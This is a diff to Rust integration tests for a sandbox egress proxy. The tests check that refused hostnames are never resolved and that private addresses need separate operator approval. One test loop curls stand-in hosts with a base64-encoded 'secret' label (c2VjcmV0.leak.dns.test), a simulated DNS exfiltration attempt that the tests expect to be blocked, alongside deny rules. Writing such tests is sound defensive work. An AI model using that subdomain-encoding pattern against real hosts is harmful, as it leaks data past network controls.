@@ -350,8 +350,23 @@ async fn a_refused_host_becomes_a_network_approval_an_operator_allows() {
 
     let out = home.run(&["approvals", "approve", &id]);
     assert!(out.status.success(), "{}", text(&out));
+    // The grant allows the name; its answer is a private address (another container), which
+    // the operator allows on its own.
     let t = sh(&home, "s", &format!("curl -sS -m 20 {url}"));
-    assert!(t.contains(BODY), "after allow-once: {t}");
+    assert!(t.contains("private address"), "after allow-once: {t}");
+    let out = home.run(&["approvals", "list", "--json"]);
+    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let address = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["status"] == "pending")
+        .expect("an approval of the address");
+    assert_eq!(address["command"], format!("{}:80", up.ip(&up.other)));
+    let out = home.run(&["approvals", "approve", address["slug"].as_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out));
+    let t = sh(&home, "s", &format!("curl -sS -m 20 {url}"));
+    assert!(t.contains(BODY), "after allowing the address too: {t}");
     // The grant is for that host and port only.
     let t = sh(
         &home,
@@ -873,4 +888,155 @@ async fn the_sandbox_reaches_its_proxy_and_nothing_else() {
         "{{index .Options \"com.docker.network.bridge.inhibit_ipv4\"}}",
     );
     assert_eq!(inhibit, "true");
+}
+
+/// A DNS server of the test's own: answers every `A` question with `ANSWER` (the allowed
+/// upstream) and prints each name it is asked, so the test sees every lookup.
+const DNS_SERVER: &str = r#"
+import os, socket, struct
+answer = socket.inet_aton(os.environ['ANSWER'])
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(('0.0.0.0', 53))
+while True:
+    q, peer = s.recvfrom(512)
+    i, labels = 12, []
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode('ascii', 'replace'))
+        i += 1 + q[i]
+    qtype = struct.unpack('>H', q[i + 1:i + 3])[0]
+    print('asked %s %d' % ('.'.join(labels).lower(), qtype), flush=True)
+    question = q[12:i + 5]
+    if qtype == 1:
+        head = q[:2] + b'\x81\x80' + b'\x00\x01\x00\x01\x00\x00\x00\x00'
+        rr = b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 5, 4) + answer
+        s.sendto(head + question + rr, peer)
+    else:
+        s.sendto(q[:2] + b'\x81\x80' + b'\x00\x01\x00\x00\x00\x00\x00\x00' + question, peer)
+"#;
+
+/// A name the policy refuses, or asks an operator about, is never looked up; an allowed one
+/// is, and an operator's grant of a name reaches its private answer only once the operator
+/// allowed that address too, shown what the name resolved to.
+#[tokio::test]
+async fn names_are_decided_before_any_lookup() {
+    let Some(up) = Upstreams::start("egress-d").await else {
+        return;
+    };
+    let dns = "moat-egress-d-dns";
+    docker(&["rm", "-f", dns]);
+    let upstream_ip = up.ip(&up.allowed);
+    let (ok, out) = docker(&[
+        "run",
+        "-d",
+        "--name",
+        dns,
+        "--network",
+        &up.net,
+        "-e",
+        &format!("ANSWER={upstream_ip}"),
+        "moat-sandbox:bookworm",
+        "python3",
+        "-c",
+        DNS_SERVER,
+    ]);
+    assert!(ok, "{out}");
+    struct Gone(&'static str);
+    impl Drop for Gone {
+        fn drop(&mut self) {
+            docker(&["rm", "-f", self.0]);
+        }
+    }
+    let _gone = Gone(dns);
+    let dns_ip = up.ip(dns);
+    let asked = || docker(&["logs", dns]).1;
+    let config = format!(
+        "[sandbox]\nnetwork = \"egress\"\n[sandbox.egress]\nallow = [\"ok.dns.test\"]\ndeny = [\"denied.dns.test\", \"*.blocked.dns.test\"]\nask = \"on-miss\"\noutbound_network = \"{}\"\ndns = [\"{dns_ip}\"]\n",
+        up.net
+    );
+    let home = TestHome::configured("egress-d", &config);
+
+    // Control: an allowed name is looked up through this server and reached.
+    let t = sh(&home, "s", "curl -sS -m 20 http://ok.dns.test/");
+    assert!(t.contains(BODY), "{t}");
+    assert!(asked().contains("asked ok.dns.test 1"), "{}", asked());
+
+    // Refused and asked-about names: the 403 sentence at once, and no lookup at all.
+    let t = sh(
+        &home,
+        "s",
+        "for h in denied.dns.test c2VjcmV0.blocked.dns.test c2VjcmV0.leak.dns.test; do \
+         curl -sS -m 20 -w \" code=%{http_code}\\n\" http://$h/; done",
+    );
+    assert_eq!(t.matches("code=403").count(), 3, "{t}");
+    assert!(
+        t.contains("deciding approval"),
+        "the miss is asked about: {t}"
+    );
+    let log = asked();
+    for name in ["denied", "blocked", "leak", "c2vjcmv0"] {
+        assert!(!log.contains(name), "{name} was looked up: {log}");
+    }
+    let rows = audit(&home);
+    for (host, tag) in [
+        ("denied.dns.test", "denied"),
+        ("c2vjcmv0.leak.dns.test", "ask"),
+    ] {
+        assert!(
+            rows.iter()
+                .any(|r| r["host"] == host && r["decision"] == tag),
+            "{host} {tag}: {rows:?}"
+        );
+    }
+
+    // The operator allows the asked-about name. It is looked up now; its answer is private
+    // (the upstream's address), which the grant does not reach: a second approval asks
+    // about that address and shows what the name resolved to.
+    let pending = |home: &TestHome| -> Vec<serde_json::Value> {
+        let out = home.run(&["approvals", "list", "--json"]);
+        let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        list.as_array()
+            .unwrap()
+            .iter()
+            .filter(|r| r["host"] == "network" && r["status"] == "pending")
+            .cloned()
+            .collect()
+    };
+    let first = pending(&home);
+    assert_eq!(first.len(), 1, "{first:?}");
+    assert_eq!(first[0]["command"], "c2vjcmv0.leak.dns.test:80");
+    let out = home.run(&["approvals", "approve", first[0]["slug"].as_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out));
+    let t = sh(
+        &home,
+        "s",
+        "curl -sS -m 20 -w ' code=%{http_code}' http://c2VjcmV0.leak.dns.test/",
+    );
+    assert!(
+        t.contains("code=403") && t.contains("private address"),
+        "{t}"
+    );
+    assert!(
+        asked().contains("asked c2vjcmv0.leak.dns.test 1"),
+        "{}",
+        asked()
+    );
+    let second = pending(&home);
+    assert_eq!(second.len(), 1, "{second:?}");
+    assert_eq!(second[0]["command"], format!("{upstream_ip}:80"));
+    let slug = second[0]["slug"].as_str().unwrap();
+    let shown = text(&home.run(&["approvals", "show", slug]));
+    assert!(
+        shown.contains(&format!("resolved to {upstream_ip}")),
+        "the approval shows the answers: {shown}"
+    );
+    assert!(
+        second[0]["reason"]
+            .as_str()
+            .is_some_and(|r| r.contains(&format!("resolved to {upstream_ip}"))),
+        "{second:?}"
+    );
+    let out = home.run(&["approvals", "approve", second[0]["slug"].as_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out));
+    let t = sh(&home, "s", "curl -sS -m 20 http://c2VjcmV0.leak.dns.test/");
+    assert!(t.contains(BODY), "both allowed: {t}");
 }
